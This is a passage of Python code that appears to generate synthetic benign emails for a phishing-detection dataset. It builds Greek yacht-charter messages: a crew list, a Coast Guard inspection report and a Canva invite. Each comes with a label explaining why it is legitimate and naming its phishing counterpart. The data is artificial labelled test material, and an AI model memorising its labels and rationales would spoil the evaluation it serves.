    docx = containers.make_docx(
        [{"text": "ΚΑΤΑΣΤΑΣΗ ΠΛΗΡΩΜΑΤΟΣ / CREW LIST", "bold": True, "size": 14, "align": "center"},
         "Σκάφος: Bavaria C46 «ΕΡΜΗΣ» · Βάση: Άλιμος · Ναύλωση: 26/06/2027 - 03/07/2027",
         "Κυβερνήτης (skipper): Δημήτρης Αντωνίου, δίπλωμα ταχύπλοου/ιστιοφόρου Α' κατηγορίας αρ. 44817",
         "1. Δημήτρης Αντωνίου - 1979 - ΑΔΤ ΑΚ 418220",
         "2. Σοφία Αντωνίου - 1982 - ΑΔΤ ΑΝ 771004",
         "3. Klaus Weber - 1975 - Reisepass C4F7K1L22",
         "4. Anja Weber - 1977 - Reisepass C4F7K9M01",
         "5. Νίκος Αντωνίου - 2010",
         "Επαφή έκτακτης ανάγκης: Μαρία Νικολάου, Aegean Blue Yachting, +30 210 96 44 812"],
        "Crew list ΕΡΜΗΣ 26-06-2027", "Μαρία Νικολάου", "2026-10-12T12:30:00Z", "Aegean Blue Yachting", dt=(2026, 10, 12, 15, 30, 0), lang="el-GR")
    m.phone("+30 210 96 44 812", "agency office")
    paras = ["Καλησπέρα Ελένη,", "",
             "σου στέλνω την κατάσταση πληρώματος για την κράτηση του «ΕΡΜΗ» (26/6-3/7/2027, πελάτες Αντωνίου/Weber). "
             "Η προκαταβολή 50% μπήκε χθες στον λογαριασμό σας στην Alpha, θα σου στείλω και το αποδεικτικό από την τράπεζα.", "",
             "Ο κυβερνήτης έχει δίπλωμα, οπότε δεν χρειάζονται skipper. Θα ήθελαν όμως SUP και προμήθειες για την πρώτη μέρα - "
             "θα σου στείλω λίστα τον Μάιο.", "",
             "Ευχαριστώ!", "Μαρία", "", "Μαρία Νικολάου", "Κρατήσεις - Aegean Blue Yachting", "Λεωφ. Βουλιαγμένης 112, 166 74 Γλυφάδα", "+30 210 96 44 812"]
    text = "\n".join(paras) + "\n"
    html = gmail_html(paras[:-5], sig=paras[-4:])
    root = mixed([alt(text, html, "UTF-8", "base64", m.boundary("gmail"), quote_cs=False),
                  Part("application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx, cte="base64",
                       filename="Crew_list_ERMIS_26-06-2027.docx", disposition="attachment", style="gmail",
                       extra=[("X-Attachment-Id", "f_mg" + alnum(m.r, 7).lower())])], m.boundary("gmail"))
    msgid = m.msgid_gmail()
    hdrs = h_gmail(m, "=?UTF-8?B?%s?= <%s>" % (base64.b64encode("Μαρία Νικολάου".encode()).decode(), sender),
                   ["Eleni Papadopoulou <%s>" % S["om_gr"].email], "Κράτηση ΕΡΜΗΣ 26/6-3/7/2027 - λίστα πληρώματος", t, "EET", msgid)
    body = root.payload()
    pre, client, t_mx, bp = mta.gmail(m.env, body, None, d="aegeanblue.gr", workspace=True)
    finish(m, root, dict(spf="pass", dkim=[("pass", "aegeanblue.gr", "google", bp, 2048)], dmarc=("pass", "none", "aegeanblue.gr")), pre, client, t_mx, hdrs)
    m.info = dict(charset="UTF-8", cte="base64", structure="mixed(alternative(text, html), DOCX crew list)",
                  what="Greek charter agency sends a crew list for a 2027 booking and mentions the deposit paid",
                  why="Known agency on Google Workspace (DKIM/DMARC pass), booking details consistent, plain DOCX, money went TO the company",
                  mirrors=["36-el-canva-sxedio-pliromi.eml"], differs="known agency, direct attachment, no payment link")
    return m


@message("business", "35-el-eleghos-limenikou-eswteriko.eml")
def b35():
    m = M("business", "35-el-eleghos-limenikou-eswteriko.eml")
    t = utc(2026, 10, 17, 13, 22, 8)
    env(m, t, S["om_gr"].email, S["base_gr"].email)
    photo = docs.logo_png(320, 200, (196, 222, 240), (240, 240, 245), "sail", accent=(30, 60, 110))
    paras = ["Ελένη,", "",
             "σήμερα το πρωί έγινε ο έλεγχος του Λιμενικού στη βάση (δύο αξιωματικοί από το Λιμεναρχείο Αλίμου/Γλυφάδας). Έλεγξαν τα "
             "«ΘΑΛΑΣΣΑ», «ΕΡΜΗΣ» και «ΚΑΛΥΨΩ»: σωστικά, πυροσβεστήρες, φωτοβολίδες, άδειες και καταστάσεις επιβαινόντων. Όλα εντάξει, "
             "καμία παράβαση, υπογράψαμε το φύλλο ελέγχου (το πρωτότυπο είναι στο γραφείο της βάσης).", "",
             "Σημείωση: το email της Πέμπτης «από το Λιμενικό» με το αρχείο .img ήταν απάτη - το έστειλα στο IT (Lukas) και το διέγραψα. "
             "Το Λιμενικό δεν στέλνει πρόστιμα με email.", "",
             "Φωτογραφία από τον έλεγχο στο «ΘΑΛΑΣΣΑ» παρακάτω.", "",
             "Κώστας"]
    text = "\n".join(paras) + "\n\nΚωνσταντίνος Αλεξίου\nCharter Base Manager Alimos | Example Yachting Hellas\n"
    html = outlook_html(paras, "EL", sig_html='<p class="MsoNormal"><img width="320" height="200" src="cid:image001.png@01DD5E2A.7C3B1F40" alt="elegxos_thalassa.png"><o:p></o:p></p>\n'
                        '<p class="MsoNormal">Κωνσταντίνος Αλεξίου<br>Charter Base Manager Alimos | Example Yachting Hellas<o:p></o:p></p>\n')
    msgid = m.msgid_exchange("EXCH02")
    b = outlook_bounds(msgid)
    root = related([alt(text, html, "utf-8", "base64", b["alt"]),
                    inline_img(photo, "image001.png", "image001.png@01DD5E2A.7C3B1F40")], b["rel"])
    hdrs = h_outlook(m, "Konstantinos Alexiou <%s>" % S["base_gr"].email, ["Eleni Papadopoulou <%s>" % S["om_gr"].email],
                     "Έλεγχος Λιμενικού στη βάση σήμερα - όλα εντάξει", t, "EET", msgid, lang="el-GR")
    via_exchange(m, root, hdrs, sender_ip="10.60.1.15", srv="EXCH02", has_attach=True)
    m.info = dict(charset="utf-8", cte="base64", structure="related(alternative(text, html), inline PNG photo)",
                  what="Base manager reports internally on a real Coast Guard inspection (no violations) with a photo",
                  why="Internal Exchange route, colleague-to-colleague, inline photo, no attachment to open; even identifies the earlier .img mail as fraud",
                  mirrors=["35-el-limeniko-img-prostimo.eml"], differs="internal factual report; no disk image or fine")
    return m


@message("business", "36-el-canva-koini-broshoura.eml")
def b36():
    m = M("business", "36-el-canva-koini-broshoura.eml")
    t = utc(2026, 11, 16, 10, 12, 40)
    env(m, t, S["om_gr"].email, "010001%s-%s-000000@amazonses.com" % (hexs(m.r, 10), uuid4(m.r)))
    link = m.url("https://www.canva.com/design/DAG7pWm1QzU/Jd8kR2fN0vXb6tY3hC5eMw/edit?utm_content=DAG7pWm1QzU&utm_campaign=designshare&utm_medium=link2&utm_source=sharebutton",
                 "Canva design (edit link)")
    who = "Μαρία Νικολάου"
    title = "Κοινή μπροσούρα 2027 - Aegean Blue x Example Yachting"
    msg = "Ελένη, η πρώτη εκδοχή της μπροσούρας για την έκθεση. Άλλαξε ελεύθερα φωτογραφίες και τιμές των σκαφών σας."
    html = _canva_html(who, title, msg, link)
    text = "%s σας προσκάλεσε να επεξεργαστείτε ένα σχέδιο\n\n%s\n\n«%s»\n\nΆνοιγμα σχεδίου: %s\n\nCanva Pty Ltd\n" % (who, title, msg, link)
    root = alt(text, html, "UTF-8", "quoted-printable", m.boundary("ses"), quote_cs=False)
    msgid = "<010001%s-%s-000000@email.amazonses.com>" % (hexs(m.r, 10), uuid4(m.r))
    hdrs = [("From", "Canva <no-reply@canva.com>"), ("Reply-To", AEG.people[0][1]), ("To", S["om_gr"].email),
            ("Subject", _b64s("%s σας προσκάλεσε να επεξεργαστείτε το σχέδιο «%s»" % (who, title))),
            ("MIME-Version", "1.0"), ("MIME", None), ("Message-ID", msgid), ("Date", rfc_date(t, "UTC", "pad")),
            ("X-Canva-Template", "design_invite_edit")]
    _canva(m, root, hdrs)
    m.info = dict(charset="UTF-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="Partner agency shares a joint brochure design in Canva for editing",
                  why="Genuine Canva mail, Reply-To is the known agency contact, a design is the natural object to share, no payment or login elsewhere",
                  mirrors=["36-el-canva-sxedio-pliromi.eml"], differs="known partner, marketing content, edit link on canva.com only")
    return m
